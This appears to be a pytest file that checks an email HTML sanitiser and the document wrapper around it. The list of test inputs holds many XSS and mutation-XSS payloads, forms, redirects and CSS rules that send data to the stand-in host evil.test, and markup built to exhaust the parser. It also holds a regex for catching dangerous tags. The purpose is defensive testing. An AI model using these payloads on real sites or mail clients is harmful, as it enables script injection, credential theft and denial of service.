"""HTML of strangers: what may be shown, what is blocked, and what it may cost."""

import re
import time

import pytest

from connectors.mail.html import as_document, document_policy, sanitise

ATTACKS = [
    "<script>__pwn()</script>",
    "<scr<script>ipt>__pwn()</script>",
    "<img src=x onerror=__pwn()>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=__pwn()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwn()>",
    '<noscript><p title="</noscript><img src=x onerror=__pwn()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=__pwn()>">',
    '<textarea><p title="</textarea><img src=x onerror=__pwn()>">',
    '<a href="jav&#x09;ascript:__pwn()">x</a>',
    '<a href="&#14;javascript:__pwn()">x</a>',
    '<a href="javascript&colon;__pwn()">x</a>',
    '<a href="data:text/html,<script>__pwn()</script>">x</a>',
    '<a href="vbscript:__pwn()">x</a>',
    '<a href="//evil.test">x</a>',
    '<a href="\\/\\/evil.test">x</a>',
    '<div style="position:fixed;inset:0;z-index:9999">fake sign-in</div>',
    "<form action=http://evil.test/><input name=password><button formaction=http://evil.test>",
    "<base href=http://evil.test/>",
    '<meta http-equiv=refresh content="0;url=http://evil.test">',
    "<style>input[value^=a]{background:url(http://evil.test/a)}</style>",
    '<td background="http://evil.test/x">x</td>',
    '<p style="background-color:url(http://evil.test/x)">x</p>',
    '<p style="color:\\75 rl(http://evil.test/x)">x</p>',
    '<img srcset="http://evil.test/x 1x">',
    '<video poster="http://evil.test/x"></video>',
    "<iframe srcdoc='<script>__pwn()</script>'></iframe>",
    "<object data=http://evil.test/x></object><embed src=http://evil.test/x>",
    '<link rel=stylesheet href="http://evil.test/x">',
    '<img src="data:image/svg+xml,<svg onload=__pwn()>">',
    '<a id=__pwn name=body href="https://good.test">x</a>',
    "<svg><use href='data:image/svg+xml;base64,x'/></svg>",
    "<template><img src=x onerror=__pwn()></template>",
    '<x onclick=__pwn()>x</x><p onmouseover="__pwn()">x</p>',
    "<!--><img src=x onerror=__pwn()>-->",
    "<![CDATA[<img src=x onerror=__pwn()>]]>",
    "<?xml <img src=x onerror=__pwn()>?>",
    "\ue001img src=x onerror=__pwn()\ue002",
    "&lt;img src=x onerror=__pwn()&gt;",
]
# A tag in the output that could run, load, send or leave anything.
DANGEROUS = re.compile(
    r"<(?!/?(?:p|div|a|img|b|i|span|table|tbody|tr|td|br|ul|li|h1)\b)[a-z]|"
    r"<[^>]*\s(?:on\w+|srcset|poster|background|action|formaction|id|name|class)\s*=|"
    r"<[^>]*\s(?:href|src)=\"(?!https://good\.test|/files/|data:image/png)|"
    r"<[^>]*style=\"[^\"]*(?:url|position|\\)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_covers(attack):
    assert not DANGEROUS.search(sanitise(attack).html)


def test_escaped_text_stays_text():
    assert sanitise("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;lt;</p>").html == (
        "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;lt;</p>"
    )


def test_ordinary_markup_survives():
    page = (
        '<table width="100%"><tr><td bgcolor="#eeeeee" style="color:red;position:fixed">'
        '<b>Order</b> <font color="blue">12</font></td></tr></table><ul><li>a</li><li>b</li></ul>'
    )
    cleaned = sanitise(page).html
    assert '<td bgcolor="#eeeeee" style="color:red">' in cleaned
    assert "<b>Order</b>" in cleaned and "<li>a</li><li>b</li>" in cleaned


def test_links_open_elsewhere_and_tell_nobody():
    cleaned = sanitise('<a href="https://good.test/x?a=1&amp;b=2">x</a>').html
    assert 'href="https://good.test/x?a=1&amp;b=2"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned and 'target="_blank"' in cleaned


def test_remote_images_are_taken_out_and_counted():
    safe = sanitise('<img src="http://t.test/p.gif" alt="Logo"><img src="//t.test/q"><p>x</p>')
    assert safe.blocked_images == 2
    assert "t.test" not in safe.html
    assert 'alt="Logo"' in safe.html


def test_remote_images_can_be_let_in():
    safe = sanitise('<img src="https://good.test/p.gif">', remote_images=True)
    assert 'src="https://good.test/p.gif"' in safe.html
    assert safe.blocked_images == 0


def test_inline_images_get_the_address_they_have_here():
    safe = sanitise('<img src="CID:One@x"><img src="cid:other">', cid_urls={"one@x": "/files/1"})
    assert 'src="/files/1"' in safe.html
    assert "cid:" not in safe.html.lower()
    assert safe.blocked_images == 0


def test_pictures_carried_in_the_page_itself_are_shown():
    picture = "data:image/png;base64," + "iVBORw0KGgo" * 2000
    assert picture in sanitise(f'<img src="{picture}">').html


def test_unclosed_and_misnested_tags_end_where_the_mail_ends():
    assert sanitise("<div><b>bold<i>both</b>x").html == "<div><b>bold<i>both</i></b>x</div>"


def test_the_document_loads_nothing():
    page = as_document(sanitise("<p>Hi</p>"), theme="dark", image_sources=["https://help.test"])
    assert "default-src &#x27;none&#x27;" in page
    assert "img-src data: https://help.test;" in page
    assert "<p>Hi</p>" in page and "color-scheme:dark" in page
    assert "https:" not in document_policy()


HEAVY = {
    "nested": "<div>" * 400_000,
    "ampersands": "&" * 2_000_000,
    "ampersands-in-attribute": '<a href="' + "&" * 2_000_000 + '">',
    "attributes": "<a " + " ".join(f"a{n}" for n in range(300_000)) + ">",
    "formatting": "".join(f"<div><b x={n}></div>" for n in range(90_000)),
    "fonts": "".join(f"<p><font size={n}>" for n in range(90_000)),
    "crossing": "<span><div></span></div>" * 80_000,
    "tables": "<table><tr><td>" * 130_000,
    "items": "<li>" * 500_000,
    "less-signs": "<" * 2_000_000,
    "open-quotes": '<a "' * 500_000,
    "hidden-tags": ('<a ">' + "<div>" * 1000 + '<x ">') * 80,
    "comments": "<!--" * 500_000,
    "long-number": "&#" + "9" * 2_000_000,
    "images": "<img src=//x/y>" * 130_000,
}


@pytest.mark.parametrize("name", HEAVY)
@pytest.mark.slow
def test_hostile_markup_costs_at_most_two_seconds(name):
    started = time.process_time()
    safe = sanitise(HEAVY[name])
    assert time.process_time() - started < 2
    assert len(safe.html) < 12_000_000
